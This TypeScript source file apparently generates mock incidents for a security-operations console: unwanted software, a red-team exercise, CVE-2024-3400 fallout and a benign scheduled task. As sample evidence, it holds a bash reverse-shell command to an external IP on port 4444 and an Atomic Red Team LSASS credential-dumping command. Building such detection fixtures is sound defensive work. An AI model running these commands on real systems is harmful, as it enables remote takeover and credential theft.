import { buildIncident, mergeStories, type Story } from '../builders';
import { DETECTORS } from '../detectors';
import { INCIDENT_IDS } from '../ids';
import { EDGE_FIREWALL_IP, EXTERNAL_IPS } from '../network';
import { T } from '../timeline';
import { USERS } from '../users';
import { ANALYSTS, type StoryContext } from './context';
import { PATHS } from './paths';

export const ATOMIC_COMMAND = 'powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "Invoke-AtomicTest T1003.001 -TestNumbers 1"';
export const REVERSE_SHELL_COMMAND = `bash -i >& /dev/tcp/${EXTERNAL_IPS.reverseShell.ipAddress}/4444 0>&1`;
export const SCHEDULED_TASK_COMMAND =
  'schtasks.exe /Create /TN "Contoso\\InventoryAgent" /TR "C:\\Program Files\\Contoso\\Inventory\\agent.exe" /SC HOURLY /RU SYSTEM /F';

/** Smaller single-device incidents: PUA, red-team exercise, CVE-2024-3400 fallout, a benign scheduled task. */
export function endpointStories({ clock, device }: StoryContext): Story {
  const ws063 = device('ws063');
  const pentest = device('wsPentest01');
  const lnxWeb01 = device('lnxWeb01');
  const ws105 = device('ws105');
  const pua = clock.ago(T.puaInstalled);
  const ps = clock.ago(T.pentestPowerShell);
  const mimikatz = clock.ago(T.pentestMimikatz);
  const shell = clock.ago(T.reverseShell);
  const task = clock.ago(T.scheduledTask);

  const puaIncident = buildIncident({
    id: INCIDENT_IDS.pua,
    displayName: "'FusionCore' unwanted software was detected on one endpoint",
    severity: 'low',
    status: 'resolved',
    assignedTo: ANALYSTS.sam,
    classification: 'truePositive',
    determination: 'unwantedSoftware',
    lastModifiedBy: ANALYSTS.sam,
    resolvingComment: 'Installer quarantined by AV; user reminded of the software policy.',
    alerts: [
      {
        label: 'ws063-fusioncore',
        detector: DETECTORS.pua,
        description: "Microsoft Defender Antivirus detected 'FusionCore' (PUA:Win32/FusionCore) on ws-063.contoso.com.",
        severity: 'low',
        firstActivity: pua,
        lastActivity: pua,
        created: clock.after(pua, { m: 1 }),
        lastUpdate: clock.after(pua, { h: 6 }),
        threat: { displayName: 'PUA:Win32/FusionCore', familyName: 'FusionCore' },
        investigationState: 'successfullyRemediated',
        evidence: (ev) => [
          ev.file('fusionCore', PATHS.downloads('user6'), ws063, {
            verdict: 'suspicious',
            remediationStatus: 'remediated',
            detectionStatus: 'prevented',
          }),
          ev.device(ws063, { roles: ['compromised'], detailedRoles: ['Main device'] }),
          ev.user(USERS.user6, { roles: ['contextual'] }),
        ],
      },
    ],
  });

  const testingIncident = buildIncident({
    id: INCIDENT_IDS.securityTesting,
    displayName: 'Credential access incident on one endpoint',
    severity: 'low',
    status: 'resolved',
    assignedTo: ANALYSTS.alex,
    classification: 'informationalExpectedActivity',
    determination: 'securityTesting',
    customTags: ['Red team'],
    lastModifiedBy: ANALYSTS.alex,
    resolvingComment: 'Scheduled purple-team exercise (ticket RT-2025-07).',
    alerts: [
      {
        label: 'pentest-powershell',
        detector: DETECTORS.suspiciousPowerShell,
        description: 'A PowerShell command line on ws-pentest-01.contoso.com ran an Atomic Red Team test for LSASS memory access.',
        severity: 'low',
        firstActivity: ps,
        lastActivity: ps,
        created: clock.after(ps, { m: 2 }),
        lastUpdate: clock.after(ps, { h: 14 }),
        investigationState: 'benign',
        evidence: (ev) => [
          ev.process(
            {
              image: 'powershell',
              imagePath: PATHS.powershell,
              commandLine: ATOMIC_COMMAND,
              processId: 9012,
              created: ps,
              user: USERS.redteam,
              device: pentest,
            },
            { verdict: 'suspicious', roles: ['suspicious'] },
          ),
          ev.device(pentest, { roles: ['contextual'], detailedRoles: ['Main device'] }),
          ev.user(USERS.redteam, { roles: ['contextual'] }),
        ],
      },
      {
        label: 'pentest-mimikatz',
        detector: DETECTORS.hacktool,
        description: "Microsoft Defender Antivirus detected 'Mimikatz' (HackTool:Win32/Mimikatz.D) on ws-pentest-01.contoso.com.",
        severity: 'medium',
        firstActivity: mimikatz,
        lastActivity: mimikatz,
        created: clock.after(mimikatz, { m: 1 }),
        lastUpdate: clock.after(mimikatz, { h: 14 }),
        threat: { displayName: 'HackTool:Win32/Mimikatz.D', familyName: 'Mimikatz' },
        investigationState: 'benign',
        evidence: (ev) => [
          ev.file('mimikatz', PATHS.tools, pentest, {
            verdict: 'malicious',
            remediationStatus: 'prevented',
            detectionStatus: 'prevented',
          }),
          ev.device(pentest, { roles: ['contextual'], detailedRoles: ['Main device'] }),
          ev.user(USERS.redteam, { roles: ['contextual'] }),
        ],
      },
    ],
  });

  const cveIncident = buildIncident({
    id: INCIDENT_IDS.cve,
    displayName: 'Initial access & Execution on one endpoint',
    description: 'Possible post-exploitation of CVE-2024-3400 (PAN-OS GlobalProtect command injection).',
    severity: 'medium',
    status: 'active',
    assignedTo: null,
    lastModifiedBy: null,
    customTags: ['CVE-2024-3400'],
    alerts: [
      {
        label: 'lnx-web-01-cve-2024-3400',
        detector: DETECTORS.cveExploit,
        description:
          `lnx-web-01.contoso.com accepted an SSH session from the GlobalProtect gateway ${EDGE_FIREWALL_IP} minutes ` +
          'after the gateway logged requests matching CVE-2024-3400 (PAN-OS command injection, CVSS 10.0). The ' +
          'gateway runs an unpatched PAN-OS 11.1 release.',
        severity: 'medium',
        firstActivity: clock.before(shell, { m: 9 }),
        lastActivity: shell,
        created: clock.after(shell, { m: 3 }),
        lastUpdate: clock.after(shell, { m: 3 }),
        investigationState: 'running',
        evidence: (ev) => [
          ev.ip(EDGE_FIREWALL_IP, { verdict: 'suspicious', roles: ['source'] }),
          ev.device(lnxWeb01, { roles: ['attacked'], detailedRoles: ['Main device'] }),
        ],
      },
      {
        label: 'lnx-web-01-reverse-shell',
        detector: DETECTORS.reverseShell,
        description: `bash on lnx-web-01.contoso.com opened an interactive shell to ${EXTERNAL_IPS.reverseShell.ipAddress}:4444.`,
        severity: 'medium',
        firstActivity: shell,
        lastActivity: clock.after(shell, { m: 14 }),
        created: clock.after(shell, { m: 2 }),
        lastUpdate: clock.after(shell, { m: 2 }),
        investigationState: 'running',
        evidence: (ev) => [
          ev.process(
            {
              image: 'bash',
              imagePath: PATHS.bin,
              commandLine: REVERSE_SHELL_COMMAND,
              processId: 31877,
              created: shell,
              user: null,
              device: lnxWeb01,
              detectionStatus: 'detected',
            },
            { verdict: 'malicious', roles: ['suspicious'] },
          ),
          ev.ip(EXTERNAL_IPS.reverseShell, { verdict: 'malicious', roles: ['commandAndControl', 'destination'] }),
          ev.device(lnxWeb01, { roles: ['compromised'], detailedRoles: ['Main device'] }),
        ],
      },
    ],
  });

  const taskIncident = buildIncident({
    id: INCIDENT_IDS.scheduledTask,
    displayName: 'Persistence incident on one endpoint',
    severity: 'informational',
    status: 'resolved',
    assignedTo: ANALYSTS.sam,
    classification: 'falsePositive',
    determination: 'notMalicious',
    lastModifiedBy: ANALYSTS.sam,
    resolvingComment: 'Inventory agent deployment by IT (change CHG-4490). Tuning requested.',
    alerts: [
      {
        label: 'ws105-scheduled-task',
        detector: DETECTORS.scheduledTask,
        description: 'A scheduled task running as SYSTEM was created on ws-105.contoso.com.',
        severity: 'informational',
        firstActivity: task,
        lastActivity: task,
        created: clock.after(task, { m: 3 }),
        lastUpdate: clock.after(task, { h: 2 }),
        investigationState: 'benign',
        evidence: (ev) => [
          ev.process(
            {
              image: 'schtasks',
              imagePath: PATHS.system32,
              commandLine: SCHEDULED_TASK_COMMAND,
              processId: 2244,
              created: task,
              user: USERS.user7,
              device: ws105,
            },
            { verdict: 'noThreatsFound', roles: ['contextual'] },
          ),
          ev.device(ws105, { roles: ['contextual'], detailedRoles: ['Main device'] }),
        ],
      },
    ],
  });

  return mergeStories([puaIncident, testingIncident, cveIncident, taskIncident]);
}
